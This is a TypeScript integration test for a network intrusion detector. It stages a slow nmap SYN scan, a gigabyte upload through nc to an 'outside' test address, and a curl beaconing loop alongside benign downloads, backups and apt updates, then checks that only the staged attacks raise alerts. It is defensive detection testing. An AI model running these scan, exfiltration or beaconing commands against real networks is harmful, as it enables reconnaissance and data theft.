/** What goes on beside ordinary work and looks much like it: a patient scan, a large upload, regular calls; and the ordinary work. */
import { hash } from 'node:crypto';
import { mkdirSync, readFileSync, truncateSync, writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunSummary } from '../../../src/merge/summary.ts';
import { sleep, until } from '../../support/command.ts';
import { TemporaryFolder } from '../../support/temporary-folder.ts';
import type { ToldAlert } from '../alert-watch.ts';
import { alertsDuring, inWords, isSerious, TICK_SECS, TICKS } from '../monitored.ts';
import { liveUnavailable, type Network } from '../namespaces.ts';
import { listening, startWeb } from '../services.ts';
import { HOST_DEVICE, MONITOR, switchedNetwork } from '../switched-network.ts';

const HOSTS = {
  gateway: '10.81.0.1',
  server: '10.81.0.3',
  scanner: '10.81.0.11',
  uploader: '10.81.0.12',
  caller: '10.81.0.13',
  reader: '10.81.0.21',
  saver: '10.81.0.22',
  updater: '10.81.0.23',
} as const;
/** Somebody beyond the internal networks; the gateway answers for it. */
const OUTSIDE = '198.51.100.10';
const SINK_PORT = 9000;
const BACKUP_PORT = 8730;
const UPLOAD_BYTES = 1_000_000_000;
const DOWNLOAD_BYTES = 200_000_000;
const BACKUP_BYTES = 400_000_000;
const PACKAGE_BYTES = 20_000_000;
const PACKAGES = ['weir-one', 'weir-two', 'weir-three'];
const CALLS = 9;
const CALL_PAUSE_SECS = 1.2;
/** nmap -T2 waits 0.4 s after each: 24 are below what the fast rules call a scan. */
const SCANNED_PORTS = '101-124';

/** A minute of patience and twenty calls are too long for a test; the rest is as it comes. */
const CONFIGURATION = `[detect.networks."${HOSTS.scanner}".slow_scan]
least_span = 5

[detect.networks."10.81.0.0/24".beaconing]
connections = 6
`;

/** Frames of 64 KiB all along the way: a gigabyte is otherwise 700,000 of them, and two cores are shared. */
async function largeFrames(network: Network): Promise<void> {
  const ports = Object.keys(HOSTS).map((_, index) => `p${index}`);
  const devices = [...ports, 'copy'].map((device) => ({ space: 'switch', device }));
  const ends = Object.keys(HOSTS).map((space) => ({ space, device: HOST_DEVICE }));
  for (const { space, device } of [...devices, ...ends, MONITOR]) {
    await network.mustRun(space, 'ethtool', ['-K', device, 'tx', 'on', 'gso', 'on', 'tso', 'on']);
  }
}

/** Fast enough for a gigabyte in a few seconds, slow enough for a sensor that shares two cores with both ends and whatever else runs. */
async function limitRates(network: Network): Promise<void> {
  for (const host of Object.keys(HOSTS)) {
    const shape = ['tbf', 'rate', '2gbit', 'burst', '1m', 'latency', '100ms'];
    await network.mustRun(host, 'tc', ['qdisc', 'add', 'dev', HOST_DEVICE, 'root', ...shape]);
  }
}

/** A repository of packages as apt wants it, in the folder that the web server offers. */
function offerPackages(folder: TemporaryFolder): void {
  mkdirSync(folder.file('web/packages'));
  const entries = PACKAGES.map((name) => {
    const path = folder.file(`web/packages/${name}.deb`);
    writeFileSync(path, name);
    truncateSync(path, PACKAGE_BYTES);
    const sum = hash('sha256', readFileSync(path), 'hex');
    const fields = {
      Package: name,
      Version: '1',
      Architecture: 'all',
      Maintainer: 'weir',
      Filename: `./${name}.deb`,
      Size: PACKAGE_BYTES,
      SHA256: sum,
    };
    return Object.entries(fields)
      .map(([field, value]) => `${field}: ${value}\n`)
      .join('');
  });
  writeFileSync(folder.file('web/packages/Packages'), entries.join('\n'));
  writeFileSync(folder.file('sources.list'), `deb [trusted=yes] http://${OUTSIDE}/packages ./\n`);
}

class Stage {
  readonly network: Network;
  readonly folder: TemporaryFolder;

  constructor(network: Network, folder: TemporaryFolder) {
    this.network = network;
    this.folder = folder;
  }

  readonly scan = () =>
    this.run('scanner', 'nmap', ['-n', '-Pn', '-sS', '-T2', '--max-retries', '0', '-r', '-p', SCANNED_PORTS, HOSTS.server]);

  readonly upload = () => this.send('uploader', 'gateway', OUTSIDE, SINK_PORT, UPLOAD_BYTES);

  /** To another internal host. */
  readonly backUp = () => this.send('saver', 'server', HOSTS.server, BACKUP_PORT, BACKUP_BYTES);

  /** From one shell: what takes the test's own process its time must not come between. */
  readonly call = async () => {
    const curl = `curl -sS -o /dev/null http://${OUTSIDE}/status`;
    await this.run('caller', 'sh', ['-c', `for call in $(seq ${CALLS}); do ${curl} || exit 1; sleep ${CALL_PAUSE_SECS}; done`]);
  };

  readonly download = () => this.fetch('reader', `http://${OUTSIDE}/download`, DOWNLOAD_BYTES);

  readonly update = async () => {
    const { folder } = this;
    const state = folder.file('apt');
    for (const each of ['lists/partial', 'cache/archives/partial', 'etc']) mkdirSync(`${state}/${each}`, { recursive: true });
    writeFileSync(`${state}/status`, '');
    const settings = {
      'Dir::Etc::SourceList': folder.file('sources.list'),
      'Dir::Etc::SourceParts': '-',
      'Dir::Etc::Parts': '-',
      'Dir::Etc::Main': '-',
      'Dir::State::Lists': `${state}/lists`,
      'Dir::State::Status': `${state}/status`,
      'Dir::Cache': `${state}/cache`,
      'APT::Sandbox::User': 'root',
    };
    const options = Object.entries(settings).flatMap(([name, value]) => ['-o', `${name}=${value}`]);
    await this.run('updater', 'apt-get', [...options, '-q', 'update']);
    const script = 'cd "$0" && exec apt-get "$@"';
    await this.run('updater', 'sh', ['-c', script, state, ...options, '-q', 'download', ...PACKAGES]);
    for (const name of PACKAGES) expect(readFileSync(`${state}/${name}_1_all.deb`).length).toBe(PACKAGE_BYTES);
  };

  private run(space: string, command: string, args: string[]) {
    return this.network.mustRun(space, command, args, { timeoutMs: 40_000 });
  }

  private async fetch(space: string, url: string, bytes: number): Promise<void> {
    const { stdout } = await this.run(space, 'curl', ['-sS', '-o', '/dev/null', '-w', '%{size_download}', url]);
    if (Number(stdout) !== bytes) throw new Error(`${url} gave ${stdout} bytes`);
  }

  private async send(from: string, to: string, address: string, port: number, bytes: number): Promise<void> {
    const path = this.folder.file(`sent-${port}`);
    writeFileSync(path, '');
    truncateSync(path, bytes);
    const store = this.network.start(to, 'sh', ['-c', `nc -l ${address} ${port} | wc -c`]);
    await listening(this.network, to, [port], [store]);
    await this.run(from, 'sh', ['-c', `nc -N ${address} ${port} < ${path}`]);
    const { stdout } = await store.wait(20_000);
    if (Number(stdout) !== bytes) throw new Error(`${from} sent ${bytes} bytes, of which ${stdout} arrived`);
  }
}

const ATTACKS = [
  {
    title: 'nmap -T2 of one host',
    kind: 'slow_scan',
    source: HOSTS.scanner,
    target: HOSTS.server,
    answerWait: 1,
    threshold: { contacts: 15 },
  },
  {
    title: 'a gigabyte through nc',
    kind: 'data_exfiltration',
    source: HOSTS.uploader,
    target: OUTSIDE,
    answerWait: 0,
    threshold: { upload_bytes: 1e8 },
  },
  { title: 'curl every second', kind: 'beaconing', source: HOSTS.caller, target: OUTSIDE, answerWait: 0, threshold: { connections: 6 } },
] as const;

const missing = liveUnavailable('nmap', 'nginx', 'curl', 'nc', 'apt-get');

describe.skipIf(missing !== null)(`quiet attacks beside ordinary work${missing === null ? '' : ` (skipped: ${missing})`}`, () => {
  const folder = new TemporaryFolder('quiet');
  let network: Network;
  let alerts: ToldAlert[] = [];
  let summary: RunSummary;

  beforeAll(async () => {
    network = await switchedNetwork(HOSTS, 'gateway');
    await largeFrames(network);
    await limitRates(network);
    await network.address('gateway', HOST_DEVICE, `${OUTSIDE}/32`);
    const web = startWeb(network, 'gateway', [OUTSIDE], folder);
    writeFileSync(folder.file('web/download'), '');
    truncateSync(folder.file('web/download'), DOWNLOAD_BYTES);
    writeFileSync(folder.file('web/status'), 'nothing new');
    offerPackages(folder);
    writeFileSync(folder.file('weir.toml'), CONFIGURATION);
    await listening(network, 'gateway', [80], [web]);
    const stage = new Stage(network, folder);
    ({ alerts, summary } = await alertsDuring(
      network,
      folder,
      async (watch) => {
        const transfers = (async () => {
          await stage.upload();
          await stage.backUp();
          await Promise.all([stage.download(), stage.update()]);
        })();
        await Promise.all([stage.scan(), stage.call(), transfers]);
        const isSeen = ({ kind }: { kind: string }) => watch.alerts.some((alert) => alert.kind === kind);
        // What never comes is the failure of its own test.
        await until('all alerts', () => ATTACKS.every(isSeen), 5000).catch(() => undefined);
        await sleep(2 * TICK_SECS * 1000);
      },
      // With a filter the kernel cuts packets before it keeps them.
      ['--config', folder.file('weir.toml'), '--snaplen', '256', '-f', 'arp or ip'],
    ));
  }, 90_000);
  afterAll(async () => {
    await network[Symbol.asyncDispose]();
    folder[Symbol.dispose]();
  });

  it.each(ATTACKS)('$title is $kind, once and in time', ({ kind, source, target, answerWait, threshold }) => {
    const own = alerts.filter((alert) => alert.source === source && isSerious(alert));
    expect(
      own.map(({ kind: told }) => told),
      own.map(inWords).join('\n'),
    ).toEqual([kind]);
    expect(own[0]).toMatchObject({ target, threshold });
    expect(own[0].told_at - own[0].ts).toBeLessThan(answerWait + TICKS * TICK_SECS);
  });

  it('the download, the backup, the package update and everything else are no alerts of medium severity or above', () => {
    const sources = new Set<string | null>(ATTACKS.map(({ source }) => source));
    const lost = `dropped by the kernel ${summary.kernel_drops}, by the ring ${summary.ring_drops}`;
    expect(alerts.filter((alert) => isSerious(alert) && !sources.has(alert.source)).map(inWords), lost).toEqual([]);
    const bytes = UPLOAD_BYTES + DOWNLOAD_BYTES + BACKUP_BYTES + PACKAGES.length * PACKAGE_BYTES;
    expect(summary.input_wire_bytes).toBeGreaterThan(bytes);
  });
});
